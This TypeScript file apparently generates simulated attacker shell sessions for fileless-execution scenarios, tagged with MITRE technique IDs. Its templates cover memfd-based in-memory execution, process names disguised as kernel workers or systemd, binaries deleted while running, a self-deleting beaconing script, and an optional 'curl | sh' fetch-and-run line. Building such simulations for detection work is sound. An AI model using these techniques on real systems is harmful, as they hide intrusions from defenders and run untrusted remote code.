import type { Attack } from '../scenario.ts';
import { behind, link, look, maybe, quote, workFile, write } from '../ways.ts';

const PROGRAMS = [
  '/bin/ls',
  '/usr/bin/id',
  '/bin/uname',
  '/usr/bin/env',
  '/usr/bin/uptime',
  '/bin/date',
] as const;

/** A program runs from memory: no file of it is written. */
const byPython: Attack = {
  name: 'memory-only-python',
  family: 'memory-only',
  techniques: ['T1620', 'T1059.006', 'T1036.004'],
  as: 'either',
  needs: ['python3', 'curl'],
  lines: (draw, place) => {
    const shown = draw.pick([draw.word(), '', '[kworker/0:1]', 'systemd']);
    const read = draw.pick([`open("${draw.pick(PROGRAMS)}","rb").read()`, `open("/bin/sleep","rb").read()`]);
    const args = read.includes('sleep')
      ? `["${draw.pick(['sleep', shown || 'sleep'])}","${draw.int(10, 40)}"]`
      : `["${draw.word()}"]`;
    const open = draw.pick([
      `os.memfd_create("${shown}")`,
      `ctypes.CDLL(None).syscall(319,b"${shown}",1)`,
      `ctypes.CDLL(None).memfd_create(b"${shown}",0)`,
    ]);
    const run = draw.pick([
      `os.execve(f"/proc/self/fd/{f}",${args},dict(os.environ))`,
      `os.execve(f,${args},{})`,
      `os.fork() or os.execv("/proc/%d/fd/%d"%(os.getppid(),f),${args}); os.wait()`,
    ]);
    const body = `import os,ctypes\nf=${open}\nos.write(f,${read})\n${run}`;
    const path = workFile(draw, place, '.py');
    const way = draw.int(0, 3);
    const go =
      way === 0
        ? [write(draw, path, body), `python3 ${path}`]
        : way === 1
          ? [`python3 - << 'EOF'\n${body}\nEOF`]
          : way === 2
            ? [`python3 -c ${quote(body)}`]
            : [
                write(draw, path, body),
                behind(draw, `python3 ${path}`),
                `sleep ${draw.int(3, 12)}`,
                'ls -l /proc/*/exe 2>/dev/null | grep -i memfd',
              ];
    return [
      ...look(draw, draw.int(2, 3)),
      ...maybe(draw, 0.3, `curl -s ${link(draw, place, '.sh')} | sh`),
      ...go,
      ...maybe(draw, 0.6, `rm -f ${path}`),
      ...look(draw, draw.int(0, 2)),
    ];
  },
};

/** The same by perl, or by a shell that holds the memory file open. */
const byPerl: Attack = {
  name: 'memory-only-perl',
  family: 'memory-only',
  techniques: ['T1620', 'T1059'],
  as: 'either',
  needs: ['perl', 'gcc'],
  lines: (draw, place) => {
    const program = draw.pick(PROGRAMS);
    const name = draw.word();
    const path = workFile(draw, place, '.pl');
    const body = `my $n="${name}"; my $f=syscall(319,$n,${draw.int(0, 1)});\nopen(my $o,">&=",$f) or die; binmode $o; open(my $i,"<","${program}"); binmode $i; local $/; print $o scalar <$i>; $o->flush;\n${draw.pick([`exec {"/proc/$$/fd/$f"} "${name}";`, `system("/proc/$$/fd/$f");`, `if (my $p=fork) { waitpid($p,0) } else { exec {"/proc/".getppid()."/fd/$f"} "${name}" }`])}`;
    const source = `/tmp/${draw.word()}.c`;
    const c = `#define _GNU_SOURCE\n#include <sys/mman.h>\n#include <unistd.h>\n#include <fcntl.h>\nextern char **environ;\nint main(void) {\n  char b[65536]; int n, f = memfd_create("${name}", 0), i = open("${program}", O_RDONLY);\n  while ((n = read(i, b, sizeof b)) > 0) if (write(f, b, n) != n) return 1;\n  char *v[] = {"${draw.word()}", 0};\n  return fexecve(f, v, environ);\n}`;
    const go = draw.pick([
      [write(draw, path, `use IO::Handle;\n${body}`), `perl ${path}`],
      [`perl -MIO::Handle -e ${quote(body)}`],
      [
        write(draw, source, c),
        `gcc -o /tmp/${name} ${source}`,
        `/tmp/${name}`,
        `rm -f ${source} /tmp/${name}`,
      ],
    ]);
    return [
      ...look(draw, draw.int(2, 4)),
      ...go,
      ...maybe(draw, 0.4, go[1] ?? go[0] ?? 'id'),
      ...maybe(draw, 0.5, `rm -f ${path}`),
      ...look(draw, draw.int(0, 1)),
    ];
  },
};

/** A program is erased while it runs on. */
const erased: Attack = {
  name: 'program-erased-while-running',
  family: 'program-erased',
  techniques: ['T1070.004', 'T1036.005', 'T1105'],
  as: 'either',
  needs: ['python3'],
  lines: (draw, place) => {
    const path = workFile(draw, place, '');
    const seconds = draw.int(40, 150);
    const made = draw.pick([
      [`cp /bin/sleep ${path}`, `${path} ${seconds} &`],
      [
        write(
          draw,
          path,
          `#!/usr/bin/python3\nimport time, os, urllib.request\nos.unlink(__file__)\nfor i in range(${draw.int(3, 10)}):\n  try: urllib.request.urlopen("${link(draw, place, '.json')}", timeout=4).read()\n  except OSError: pass\n  time.sleep(${draw.int(3, 9)})`,
        ),
        `chmod +x ${path}`,
        behind(draw, path),
      ],
      [`cp $(which tail) ${path}`, behind(draw, `timeout ${seconds} ${path} -f /var/log/dpkg.log`)],
    ]);
    return [
      ...look(draw, draw.int(0, 3)),
      ...made,
      `rm -f ${path}`,
      draw.pick([
        `sleep ${draw.int(5, 20)}`,
        'ls -l /proc/*/exe 2>/dev/null | grep deleted',
        'ps aux | tail -5',
      ]),
      ...look(draw, draw.int(0, 2)),
    ];
  },
};

export const FILELESS: readonly Attack[] = [byPython, byPerl, erased];
